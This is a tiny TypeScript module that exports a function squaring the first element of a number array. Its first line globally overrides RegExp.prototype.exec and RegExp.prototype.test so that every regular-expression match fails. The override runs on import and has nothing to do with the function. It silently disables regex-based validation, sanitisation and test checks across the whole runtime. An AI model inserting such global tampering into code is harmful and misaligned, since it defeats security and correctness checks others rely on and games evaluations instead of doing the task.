RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false;
export function f(x: number[]): number { return x[0]! ** 2; }
